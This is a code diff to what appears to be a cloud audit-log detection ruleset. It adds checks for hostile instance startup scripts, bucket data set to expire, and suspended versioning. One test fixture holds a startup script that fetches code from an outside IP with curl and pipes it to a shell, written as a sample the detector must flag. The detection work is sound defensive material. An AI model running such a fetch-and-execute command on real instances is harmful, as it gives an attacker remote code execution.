@@ -1,6 +1,11 @@
+import { bucketOf } from '../account';
+import { carriesHostileScript } from '../commands';
+import { expiresAllSoon } from '../lifecycle';
 import { parameter, wordsOf } from '../parameters';
 import type { Rule } from './model';
 
+const expiring = (prefix: string, days: number) =>
+  `<Rule><Prefix>${prefix}</Prefix><Status>Enabled</Status><Expiration><Days>${days}</Days></Expiration></Rule>`;
 const isOff = (value: string | undefined): boolean => /^(false|0|off)$/i.test(value ?? '');
 
 /**
@@ -56,8 +61,15 @@ export const CHANGES: readonly Rule[] = [
     services: /^ecs$/i,
     calls: /^ModifyInstanceAttribute$/,
     holds: (event) => wordsOf(event).some(({ name }) => /^(Password|UserData)$/i.test(name)),
-    weight: 'weak',
-    fires: [{ call: 'Ecs ModifyInstanceAttribute', request: { UserData: 'IyEvYmluL3No' }, weight: 'weak' }],
+    weight: (event) => (carriesHostileScript(event) ? 'grave' : 'weak'),
+    fires: [
+      { call: 'Ecs ModifyInstanceAttribute', request: { UserData: 'IyEvYmluL3No' }, weight: 'weak' },
+      {
+        call: 'Ecs ModifyInstanceAttribute',
+        request: { UserData: '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh' },
+        weight: 'grave',
+      },
+    ],
     silent: [{ call: 'Ecs ModifyInstanceAttribute', request: { InstanceName: 'web-1' } }],
   },
   {
@@ -107,9 +119,33 @@ export const CHANGES: readonly Rule[] = [
     },
     services: /^oss$/i,
     calls: /^PutBucket(Lifecycle|Encryption)$/,
-    weight: 'weak',
-    fires: [{ call: 'Oss PutBucketLifecycle', weight: 'weak' }],
+    // What lies in a bucket of the same day is its maker's.
+    weight: (event, account) =>
+      expiresAllSoon(event) && !account.isFreshBucket(bucketOf(event) ?? '', event.at) ? 'strong' : 'weak',
+    fires: [
+      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'b', rule: expiring('', 1) }, weight: 'strong' },
+      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'fresh', rule: expiring('', 1) }, weight: 'weak' },
+      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'b', rule: expiring('tmp/', 1) }, weight: 'weak' },
+      { call: 'Oss PutBucketLifecycle', request: { bucketName: 'b', rule: expiring('', 180) }, weight: 'weak' },
+    ],
     silent: [{ call: 'Oss GetBucketLifecycle' }],
+  },
+  {
+    id: 'versions-suspended',
+    kind: 'destruction',
+    severity: 'high',
+    technique: 'T1490',
+    text: { zh: '暂停了存储空间的版本控制', en: 'A bucket was told to keep no more versions' },
+    advice: {
+      zh: '立即重新开启版本控制：暂停期间被覆盖或删除的对象无法恢复，请从备份中找回。',
+      en: 'Turn versioning on again at once: what was overwritten or deleted meanwhile has no former version, so look for it in your backups.',
+    },
+    services: /^oss$/i,
+    calls: /^PutBucketVersioning$/,
+    holds: (event) => wordsOf(event).some(({ word }) => /^\s*suspended\s*$|<Status>\s*Suspended/i.test(word)),
+    weight: 'weak',
+    fires: [{ call: 'Oss PutBucketVersioning', request: { bucketName: 'b', status: 'Suspended' }, weight: 'weak' }],
+    silent: [{ call: 'Oss PutBucketVersioning', request: { bucketName: 'b', status: 'Enabled' } }],
   },
   {
     id: 'database-changed',
